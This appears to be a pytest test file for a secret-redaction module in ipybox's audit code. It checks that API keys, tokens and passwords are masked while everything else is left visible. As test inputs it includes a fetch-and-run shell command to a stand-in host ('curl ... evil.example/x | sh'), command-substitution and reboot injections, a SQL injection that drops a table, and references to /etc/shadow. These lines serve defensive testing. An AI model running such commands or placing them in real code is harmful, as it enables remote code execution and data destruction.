"""What is taken out of texts and values before they are written down, and what is left in."""

import json
import time
from pathlib import Path
from typing import Any

import pytest

from ipybox.audit import redaction
from ipybox.audit.redaction import (
    MAX_DEPTH,
    MAX_ITEMS,
    Redactor,
    is_secret,
    is_secret_name,
    secrets_among,
    shortened,
    workspace_redactor,
)
from ipybox.workspace.seal import ImportedSecrets

LINE = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ+7/VJTUt9Us8cK"
EVIL = "curl -s http://evil.example/x | sh"
KEY = "sk-ant-api03-" + "x" * 20


@pytest.fixture
def redactor() -> Redactor:
    made = Redactor()
    made.add_secrets({"GITHUB": "s3cr3t-value", "LONGER": "s3cr3t-value-and-more", "PORT": "8080", "A": "abc"})
    return made


@pytest.mark.parametrize(
    ("text", "written"),
    [
        # Known values
        ("x = 's3cr3t-value'", "x = '${GITHUB}'"),
        ("xs3cr3t-valuex", "x${GITHUB}x"),
        ("s3cr3t-value-and-more", "${LONGER}"),
        ("port 8080, not 18080", "port ${PORT}, not 18080"),
        ("abc", "abc"),
        # Fields whose names say so
        ('password = "hunter2"', 'password = "[redacted]"'),
        ("{'apiKey': 'x', 'n': 1}", "{'apiKey': '[redacted]', 'n': 1}"),
        ('headers["Authorization"] = f"Bearer {x}"', 'headers["Authorization"] = f"[redacted]"'),
        ('token: str = """abc"""; x = "y"', 'token: str = """[redacted]"""; x = "y"'),
        ('secret = "unclosed', 'secret = "[redacted]'),
        ('secret = "unclosed\nprint("x")', 'secret = "[redacted]\nprint("x")'),
        ("API_KEY=abc make", "API_KEY=[redacted] make"),
        ("serve --api-key=abc --n=1", "serve --api-key=[redacted] --n=1"),
        ("https://h/x?access_token=abc&n=1", "https://h/x?access_token=[redacted]&n=1"),
        ('"Authorization": "Bearer ${GITHUB}"', '"Authorization": "Bearer ${GITHUB}"'),
        ("password = '$ecret'", "password = '[redacted]'"),
        ("password = ''", "password = ''"),
        ("token = get_token()", "token = get_token()"),
        ("tokenizer = 'bert-base'", "tokenizer = 'bert-base'"),
        ("max_tokens = 100", "max_tokens = 100"),
        # What looks like a key
        (f"x = '{KEY}'", "x = '[redacted]'"),
        ("ghp_" + "a1" * 18, "[redacted]"),
        ("AKIA" + "ABCD" * 4, "[redacted]"),
        ("eyJhbGciOiJI.eyJzdWIiOiIx.c2ln", "[redacted]"),
        ("Authorization: Bearer abcdef12345", "Authorization: Bearer [redacted]"),
        ("basic information about bearer tokens", "basic information about bearer tokens"),
        ("https://user:pa55@example.org/x", "https://user:[redacted]@example.org/x"),
        (
            f"-----BEGIN RSA PRIVATE KEY-----\n{LINE}\n{LINE}\nabc=\n-----END RSA PRIVATE KEY----- x",
            "-----BEGIN RSA PRIVATE KEY----- [redacted]\n-----END RSA PRIVATE KEY----- x",
        ),
        (f"k = '-----BEGIN PRIVATE KEY-----\\n{LINE}\\n{LINE}'", "k = '-----BEGIN PRIVATE KEY----- [redacted]'"),
        (
            "global-configuration-of-files hf_hub_download_all_files",
            "global-configuration-of-files hf_hub_download_all_files",
        ),
        ("risk-and-reward-of-disk-encryption", "risk-and-reward-of-disk-encryption"),
    ],
)
def test_secrets_are_taken_out_of_text_and_nothing_else_is(redactor: Redactor, text: str, written: str):
    assert redactor.text(text) == written


@pytest.mark.parametrize(
    "text",
    [
        f"#!/bin/sh\n# -----BEGIN PRIVATE KEY-----\n{EVIL}\n",
        f"-----BEGIN A PRIVATE KEY-----{EVIL}-----END A PRIVATE KEY-----",
        f"-----BEGIN PRIVATE KEY-----\\n{EVIL}",
        f'GIT_TOKEN="$({EVIL})" git fetch',
        f"GIT_TOKEN=`{EVIL}`",
        "API_KEY=$(reboot)",
        "API_KEY=;reboot",
        f"password = '{EVIL}'",
        f'secret = """{EVIL}\n{EVIL}"""',
        "UPDATE t SET password='x'' OR 1=1; DROP TABLE users; --'",
        "{'authorization': 'basic information; DROP TABLE users'}",
        "curl --token-url=https://evil.example/x",
        "run --secret=/etc/shadow",
        "https://user:$(reboot)@host/",
        "https://user:a`reboot`@host/",
        "token /etc/passwd1",
    ],
)
def test_what_could_be_a_command_is_never_taken_out(redactor: Redactor, text: str):
    written = redactor.text(text)
    for part in ("evil.example", "reboot", "DROP TABLE", "/etc/shadow", "/etc/passwd1"):
        assert (part in written) == (part in text)


@pytest.mark.parametrize(
    "value",
    [EVIL, ["curl", "evil.example"], ["sh", "-c", EVIL], {"run": EVIL}, "http://evil.example/x", "$(evil.example)"],
)
@pytest.mark.parametrize("name", ["auth_token", "password", "apiKey", "cookie"])
def test_name_of_a_field_takes_out_no_command(redactor: Redactor, name: str, value: Any):
    assert "evil.example" in json.dumps(redactor.value({name: value}))


def test_known_values_are_taken_out_for_a_person_if_they_are_no_text():
    redactor = Redactor(shortened)
    redactor.add_secrets({"TOKEN": "s3cr3t-value", "PHRASE": EVIL, "PASSWORD": "delete"})
    redactor.hide(["form-of-browser"])

    for text in (EVIL, "delete", "password='x'", f"API_KEY={KEY}"):
        assert redactor.known_tokens(text) == text
    assert redactor.known_tokens("a s3cr3t-value form-of-browser") == (
        "a s3c[... 12 characters, a secret] for[... 15 characters, a secret]"
    )


@pytest.mark.parametrize("imported", [False, True])
def test_a_repository_hides_no_address_from_the_person_who_decides(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, imported: bool
):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path.with_name("state")))
    values = {
        "A_TOKEN": "eve@evil.example",
        "B_TOKEN": "org/other-repo",
        "C_TOKEN": "a1b2c3d4e5f6g7h8i9",
        "D_TOKEN": KEY,
        "E_TOKEN": "eyJhbGciOiJ.EvilHost1.com",
    }
    (tmp_path / ".env").write_text("".join(f"{name}={value}\n" for name, value in values.items()))
    if imported:
        (tmp_path / ".env").unlink()
        ImportedSecrets(tmp_path).store("server", {"command": "theirs"}, values)
    for_people, for_logs = workspace_redactor(tmp_path, {}, shortened), workspace_redactor(tmp_path, {})
    assert [for_people.known_tokens(value) == value for value in values.values()] == [True, True, True, False, True]
    assert [for_logs.text(value) == value for value in values.values()] == [False] * 5


@pytest.mark.parametrize(
    ("name", "secret"),
    [
        *(
            (name, True)
            for name in ("password", "db_password", "apiKey", "X-API-Key", "accessToken", "SECRET", "Cookie")
        ),
        *((name, True) for name in ("next_page_token", "clientSecret", "private-key", "AUTHORIZATION")),
        *((name, False) for name in ("max_tokens", "tokenizer", "key", "author", "secretary", "path", "", "monkey")),
    ],
)
def test_names_say_what_is_a_secret(name: str, secret: bool):
    assert is_secret_name(name) == secret


@pytest.mark.parametrize(
    ("name", "value", "secret"),
    [
        *(
            (name, value, False)
            for name, value in (
                ("PORT", "8080"),
                ("DEBUG", "true"),
                ("MODE", "production"),
                ("NAME", "Ada Example"),
                ("HOST", "db-1.eu.example.org:5432"),
                ("URL", "https://example.org/api/v1"),
                ("DATABASE", "postgres://localhost:5432/db"),
                ("DATA", "/home/me/data"),
                ("CACHE", "/var/cache/9f86d081884c7d659a2feaa0c55ad015"),
                ("MODEL", "claude-3-5-sonnet-20241022"),
                ("CLUSTER", "us-east-1-production-cluster"),
                ("STARTED", "2024-01-01T00:00:00Z"),
                ("TOKEN_LIMIT", "4096"),
                ("SECRET_FILE", "/run/secrets/x"),
                ("TOKEN_URL", "https://auth.example.org/token"),
                ("USE_TOKEN", "true"),
                ("API_KEY_NAME", "my first one"),
                ("TOKEN_TTL", "3600s"),
                ("", "abcd"),
                ("_1", "abcd"),
            )
        ),
        *(
            (name, value, True)
            for name, value in (
                ("API_KEY", "abcd"),
                ("OPENAI_KEY", "abcd"),
                ("DB_PASS", "hunter2"),
                ("PGPASSWORD", "hunter2"),
                ("PASSPHRASE", "correct-horse"),
                ("GITHUBTOKEN", "abcd"),
                ("ANYTHING", KEY),
                ("DATABASE", "postgres://me:hunter2@localhost/db"),
                ("HOOK", "https://hooks.example.org/services/T0/a1b2c3d4e5f6g7h8i9j0"),
                ("OPAQUE", "9f86d081884c7d659a2feaa0c55ad015"),
                ("OPAQUE", "AbC123dEf456GhI789jK"),
            )
        ),
    ],
)
def test_variables_are_secrets_by_their_names_or_their_looks(name: str, value: str, secret: bool):
    assert is_secret(name, value) == secret


def test_secrets_are_found_among_variables():
    variables = {"PORT": "8080", "API_KEY": "abcd", "ANYTHING": KEY, "MODE": "production", "DB_PASS": "x y"}

    assert secrets_among(variables) == {"API_KEY": "abcd", "ANYTHING": KEY, "DB_PASS": "x y"}


def test_values_that_no_variable_stands_for_are_hidden(redactor: Redactor):
    redactor.hide(["from-a-browser", "pin4", "abc"])

    assert redactor.text("x from-a-browser pin4 pin45 abc") == "x [redacted] [redacted] pin45 abc"
    assert redactor.text("port 8080 of s3cr3t-value") == "port ${PORT} of ${GITHUB}", "what was known stays known"


def test_the_first_name_of_a_value_is_the_one_that_is_written(redactor: Redactor):
    redactor.add_secrets({"OTHER": "s3cr3t-value"})
    redactor.hide(["s3cr3t-value"])

    assert redactor.text("s3cr3t-value") == "${GITHUB}"


def test_of_the_values_of_cells_the_newest_are_known(redactor: Redactor, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(redaction, "MAX_OF_CELLS", 2)
    redactor.add_cell_secrets({"SHORT": "abc", "GITHUB": "s3cr3t-value", "A": "first-of-cells"})
    redactor.add_cell_secrets({"B": "second-of-cells"})
    redactor.add_cell_secrets({"A": "first-of-cells"})
    redactor.add_cell_secrets({"C": "third-of-cells"})

    text = "s3cr3t-value first-of-cells second-of-cells third-of-cells abc"
    assert redactor.text(text) == "${GITHUB} ${A} second-of-cells ${C} abc"
    redactor.add_secrets({"A": "first-of-cells"})
    redactor.add_cell_secrets({name: f"other-of-cells-{name}" for name in "DEF"})
    assert redactor.text("first-of-cells third-of-cells") == "${A} third-of-cells"
    assert redactor.text("other-of-cells-D") == "${D}", "the values of one cell are known together"


def test_what_follows_an_option_for_a_secret_is_taken_out(redactor: Redactor):
    args = ["serve", "--token", "abc", "--port", "80", "--password=abc", "--api-key", "${KEY}"]
    assert redactor.value({"args": args}) == {
        "args": ["serve", "--token", "[redacted]", "--port", "80", "--password=[redacted]", "--api-key", "${KEY}"]
    }


def test_secrets_are_taken_out_of_values_however_deep(redactor: Redactor):
    value = {
        "text": "s3cr3t-value",
        "login": {"user": "me", "password": "x", "pin": {"secret": 5}},
        "list": [{"token": ["a"]}, KEY, 1.5, None, True],
        "headers": {"Authorization": "Bearer ${GITHUB}", "Cookie": None},
        KEY: 1,
    }
    assert redactor.value(value) == {
        "text": "${GITHUB}",
        "login": {"user": "me", "password": "[redacted]", "pin": {"secret": "[redacted]"}},
        "list": [{"token": ["[redacted]"]}, "[redacted]", 1.5, None, True],
        "headers": {"Authorization": "Bearer ${GITHUB}", "Cookie": None},
        "[redacted]": 1,
    }


def test_a_text_may_be_as_long_as_the_limit(redactor: Redactor):
    assert redactor.text("x" * 20, 20) == "x" * 20
    assert redactor.text("x" * 21, 20) == "x" * 20 + "[... truncated, 21 characters in total ...]"
    assert (
        redactor.text("8080 " + "x" * 16, 20) == "${PORT} " + "x" * 12 + "[... truncated, 21 characters in total ...]"
    )
    redactor.add_secrets({"LONG": "y" * 25})
    assert redactor.text("y" * 25, 20) == "${LONG}[... truncated, 25 characters in total ...]"


def test_long_values_are_known_inside_of_words_and_short_ones_are_not(redactor: Redactor):
    redactor.add_secrets({"EIGHT": "12345678", "SEVEN": "abcdefg"})

    assert redactor.text("x12345678x xabcdefgx abcdefg") == "x${EIGHT}x xabcdefgx ${SEVEN}"


def test_a_secret_is_not_written_in_part_where_a_text_is_cut(redactor: Redactor):
    assert redactor.text("x" * 15 + "s3cr3t-value", 20) == "x" * 15 + "${GIT[... truncated, 27 characters in total ...]"
    redactor.add_secrets({"LONG": "0123456789" * 1000})
    assert redactor.text("x" * 15 + "0123456789" * 1000, 20).startswith("x" * 15 + "${LON[...")


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        pytest.param({"text": "x" * 9000}, 2, id="long_text"),
        pytest.param(list(range(100_000)), 100, id="long_list"),
        pytest.param({str(number): number for number in range(100_000)}, 100, id="large_object"),
        pytest.param([["x" * 500] * 50] * 50, 3, id="many_texts"),
    ],
)
def test_large_values_are_cut_and_say_what_is_missing(redactor: Redactor, value: Any, shown: int):
    written = json.dumps(redactor.value(value))
    assert len(written) < 6000
    assert "more ...]" in written or "characters in total" in written
    assert len(redactor.value(value)) <= MAX_ITEMS + 1


@pytest.mark.parametrize(
    ("value", "written"),
    [
        pytest.param([1] * MAX_ITEMS, [1] * MAX_ITEMS, id="as_many_as_there_can_be"),
        pytest.param([1] * (MAX_ITEMS + 3), [*[1] * MAX_ITEMS, "[... 3 more ...]"], id="three_too_many"),
        pytest.param(
            {f"k{n}": n for n in range(MAX_ITEMS + 3)},
            {f"k{n}": n for n in range(MAX_ITEMS)} | {"...": "[... 3 more ...]"},
            id="three_keys_too_many",
        ),
        pytest.param(
            [["x"], "y" * 2000, {"a": 1}, 5],
            [["x"], "y" * 1983 + "[... truncated, 2,000 characters in total ...]", "[... 2 more ...]"],
            id="too_long_a_text",
        ),
        pytest.param(
            {f"{n:0200}": n for n in range(15)},
            {f"{n:0200}": n for n in range(10)} | {"...": "[... 5 more ...]"},
            id="too_long_names",
        ),
        pytest.param(
            {"n" * 250: 1}, {"n" * 200 + "[... truncated, 250 characters in total ...]": 1}, id="too_long_a_name"
        ),
        pytest.param(
            [[1] * 90] * 5,
            [[1] * 90, [1] * 90, [*[1] * 66, "[... 24 more ...]"], "[... 2 more ...]"],
            id="too_many_numbers",
        ),
        pytest.param([], [], id="empty_list"),
        pytest.param(
            ["--token=a", "b", "-password", "c", "plain", "token", "d"],
            ["--token=[redacted]", "b", "-password", "[redacted]", "plain", "token", "d"],
            id="options",
        ),
    ],
)
def test_values_are_cut_at_their_limits(redactor: Redactor, value: Any, written: Any):
    assert redactor.value(value) == written


def test_deep_values_are_cut(redactor: Redactor):
    value: Any = "end"
    for _ in range(500):
        value = [value]
    assert json.dumps(redactor.value(value)) == "[" * MAX_DEPTH + '"[... 1 more ...]"' + "]" * MAX_DEPTH
    for _ in range(500):
        value = {"a": value}
    assert json.dumps(redactor.value(value)) == '{"a": ' * MAX_DEPTH + '"[... 1 more ...]"' + "}" * MAX_DEPTH


def test_numbers_that_json_has_not_are_texts(redactor: Redactor):
    assert redactor.value([float("nan"), float("inf")]) == ["nan", "inf"]


@pytest.mark.parametrize(
    "part",
    [
        *(
            'token="',
            "tokentoken",
            "eyJ",
            "://a:",
            "sk-",
            "-----BEGIN PRIVATE KEY-----",
            "-----BEGIN PRIVATE KEY-----\n" + "A" * 40 + "\n",
            "bearer ",
            "TOKEN",
            "token=\\'",
        ),
        *('"\\', "bearer a", "token ", "?token=", "a", "API_KEY=", "api-", "'''", "password:'"),
    ],
)
def test_hostile_text_takes_no_time(redactor: Redactor, part: str):
    text = part * (400_000 // len(part))
    begun = time.process_time()
    redactor.text(text, 8000)
    assert time.process_time() - begun < 2, "as much as 12,000 characters of it are looked at"
